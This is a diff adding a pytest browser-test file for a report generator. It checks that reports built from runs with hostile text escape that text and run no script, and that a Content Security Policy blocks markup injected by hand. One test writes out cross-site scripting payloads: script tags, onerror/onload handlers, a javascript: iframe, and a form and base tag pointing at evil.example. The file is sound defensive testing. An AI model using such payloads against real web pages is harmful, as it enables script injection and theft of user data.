@@ -1,0 +1,128 @@
+"""Runs from a stranger in a report: nothing that they are called runs in the reader's browser."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from ampscope.records import Event, Machine, Role, State
+from ampscope.report.build import document
+from ampscope.report.document import line, visible
+from ampscope.report.html import MAX_BYTES, to_html
+from ampscope.store.reader import Reader
+from ampscope.store.writer import RunWriter
+from tests.helpers import offline_page, script_stores, synthetic_run, watched_stores
+from tests.helpers.hostile_texts import HOSTILE
+
+
+def hostile_diagnosis(store: Path, text: str) -> str:
+    """Every text of a script's runs is hostile: label, workload, module, line, code, error."""
+    spec = replace(script_stores.SPEC, label=text, workload=text, args=(text,))
+    op = script_stores.bad_op(text, text, text)
+    seen = script_stores.seen(
+        [script_stores.broken(i) for i in range(4)],
+        replace(op, op=text, module_type=text, consumers=(text,)),
+        error_type=text,
+        error_text=text,
+        notes=(text,),
+    )
+    head = script_stores.run(store, "as_is", seen, spec, State.FINISHED, text)
+    script_stores.healthy_run(store, "fp32", spec)
+    script_stores.healthy_run(store, f"fp32_modules:{text}", spec)
+    return head
+
+
+def hostile_training(store: Path, text: str) -> str:
+    """A watched run whose machine, modules and events are hostile."""
+    spec = replace(watched_stores.SPEC, label=text, workload=text)
+    writer = RunWriter.create(store, spec)
+    writer.start(Machine(text, text, text, text, text, text, text, text))
+    writer.add_modules(
+        replace(synthetic_run.module(i, f"{text}{i}"), type=text, weight_dtypes=text)
+        for i in range(3)
+    )
+    for record in watched_stores.bad(12, 8):
+        writer.add_step(record)
+    for role in (Role.GRAD_OUTPUT, Role.ACTIVATION):
+        writer.add_frame(replace(watched_stores.frame(8, role), dtypes=(text[:9], "fp16")))
+    writer.add_event(Event(8, text, text, text, text, 1.0))
+    writer.finish(State.FAILED, text, text)
+    writer.close()
+    return writer.run_id
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_runs_and_nothing_is_asked_for(tmp_path: Path, chromium: object, text: str) -> None:
+    store, out = tmp_path / "runs.db", tmp_path / "report.html"
+    runs = [hostile_diagnosis(store, text), hostile_training(store, text)]
+    with Reader(store) as reader:
+        content = to_html(document(reader, runs))
+    out.write_text(content, encoding="utf-8")
+    assert len(content.encode()) < MAX_BYTES
+    with offline_page.opened(chromium, out) as watched:  # type: ignore[arg-type]  # a Browser
+        page = watched.page
+        assert page.evaluate("window.hacked") is None
+        assert page.locator("article.part").count() == 2
+        # One script and one style sheet of ours; the others are data that no browser runs.
+        kinds = page.evaluate("[...document.scripts].map(s => s.type)")
+        assert kinds.count("") == 1
+        assert set(kinds) == {"", "application/json"}
+        for tag in ("img", "iframe", "base", "link", "form", "h3", "b", "a[href^=javascript]"):
+            assert page.locator(f"body {tag}").count() == 0
+        handlers = (
+            "[...document.querySelectorAll('*')].some(e => [...e.attributes].some("
+            "a => a.name.startsWith('on') || a.name === 'style'))"
+        )
+        assert page.evaluate(handlers) is False
+        # The name is read as it is: the text of the page holds it, spelled where it is invisible.
+        shown = line(text, 300)[:120]
+        assert shown in (page.locator("body").text_content() or "")
+        chart = page.locator("figure.lines > svg").first
+        chart.scroll_into_view_if_needed()
+        chart.hover()
+        for details in page.locator("details").all():
+            details.locator("summary").first.click()
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+        assert watched.trouble == []
+
+
+@pytest.mark.browser
+def test_the_policy_stops_what_escaping_would_let_through(tmp_path: Path, chromium: object) -> None:
+    """The last line of defence, tried: markup put in by hand neither runs, nor loads, nor sends."""
+    store, out = tmp_path / "runs.db", tmp_path / "report.html"
+    head = script_stores.no_fault(store)
+    with Reader(store) as reader:
+        content = to_html(document(reader, [head]))
+    hostile = (
+        "<script>window.hacked=1</script><img src=https://evil.example/x.png "
+        "onerror='window.hacked=2'><svg onload='window.hacked=3'></svg>"
+        "<iframe src='javascript:parent.hacked=4'></iframe><style>body{color:red}</style>"
+        "<form action=https://evil.example><input name=a></form><base href=https://evil.example>"
+    )
+    out.write_text(content.replace("<main>", f"<main>{hostile}", 1), encoding="utf-8")
+    with offline_page.opened(chromium, out) as watched:  # type: ignore[arg-type]
+        page = watched.page
+        page.wait_for_timeout(200)
+        assert page.evaluate("window.hacked") is None
+        assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
+        page.evaluate("document.querySelector('form').submit()")
+        page.wait_for_timeout(200)
+        # Chromium reports what it stopped before it is sent; the reason is the policy, not the net.
+        asked = [url for url in watched.requests if url.startswith("http")]
+        assert {watched.failures.get(url) for url in asked} <= {"csp"}
+        assert any("Content Security Policy" in error for error in watched.errors)
+
+
+def test_what_is_invisible_is_spelled() -> None:
+    assert visible("a\x1b[31m\u202eb\ud800\U000e0001") == r"a\x1b[31m\u202eb\ud800\U000e0001"
+    assert (
+        visible("tab\tand\nline stay, as do é 漢 and 😀")
+        == "tab\tand\nline stay, as do é 漢 and 😀"
+    )
+    assert line(" a\n\tb \u2028 c ") == "a b c"
+    cut = line("n" * 10_000)
+    assert len(cut) < 400
+    assert "9,700 characters" in cut
